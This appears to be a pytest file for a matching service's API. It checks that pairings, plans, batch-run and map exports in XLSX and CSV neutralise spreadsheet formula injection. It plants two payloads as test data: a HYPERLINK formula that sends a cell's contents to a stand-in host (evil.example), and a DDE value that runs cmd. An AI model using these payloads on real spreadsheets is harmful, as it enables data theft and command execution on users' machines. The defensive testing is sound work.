"""Every spreadsheet the service hands out, with a need an attacker filed: formula text and control characters come
out as plain text in every cell (pairings, plans, batch runs, the map; XLSX and CSV), and every workbook opens."""

from __future__ import annotations

import csv
import io
import time

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from matcher.map.build import MapParams, build_map
from matcher.workspace.context import Context
from tests.api.conftest import as_role

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击") 铸件表面涂料\x01'
ORG = "=cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _xlsx_cells(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return [c.value for c in cells]


def _csv_cells(content: bytes) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    return cells


def _wait(client: TestClient, headers: dict[str, str], run_id: str) -> None:
    for _ in range(300):
        if client.get(f"/batch-runs/{run_id}", headers=headers).json()["status"] not in ("queued", "running"):
            return
        time.sleep(0.1)
    raise AssertionError("the batch run did not finish")


def test_planted_formulas_leave_every_export_as_text(
    client: TestClient, keys: dict[str, str], api_matcher: Context
) -> None:
    staff, viewer = as_role(keys, "staff"), as_role(keys, "staff")
    need = {"id": "EVIL-1", "title": TITLE, "description": "寻求锆英粉涂料，提高铸件表面光洁度。\x00",
            "organization": ORG, "region": "黑龙江"}  # fmt: skip
    assert client.post("/needs", json=need, headers=staff).status_code == 201
    stored = client.get("/needs/EVIL-1", headers=viewer).json()
    assert "\x01" not in stored["title"] and "\x00" not in stored["description"]  # cleaned once, at the edge
    files: dict[str, bytes] = {}
    for fmt in ("xlsx", "csv"):
        got = client.get("/pairings", params={"format": fmt, "min_degree": 0, "top": 50}, headers=viewer)
        assert got.status_code == 200, got.text
        files[f"pairings.{fmt}"] = got.content
    plan = client.post("/plans", json={"kind": "visit", "region": "黑龙江", "k": 1, "min_degree": 0}, headers=staff)
    assert plan.status_code == 201, plan.text
    for fmt in ("xlsx", "csv"):
        files[f"plan.{fmt}"] = client.get(f"/plans/{plan.json()['id']}/export?format={fmt}", headers=viewer).content
    run = client.post("/batch-runs", json={"per_need": 2}, headers=staff).json()
    _wait(client, viewer, run["id"])
    for fmt in ("xlsx", "csv"):
        got = client.get(f"/batch-runs/{run['id']}/export", params={"format": fmt}, headers=viewer)
        assert got.status_code == 200, got.text
        files[f"batch.{fmt}"] = got.content
    build_map(api_matcher, params=MapParams(topics=2, min_size=1))
    files["map.xlsx"] = client.get("/map", params={"format": "xlsx"}, headers=viewer).content
    for name, content in files.items():
        cells = _xlsx_cells(content) if name.endswith("xlsx") else _csv_cells(content)
        text = " ".join(str(c) for c in cells if c is not None)
        assert "HYPERLINK" in text, name  # the planted text is there, as text
    assert any(ORG in str(c) for c in _xlsx_cells(files["batch.xlsx"]))
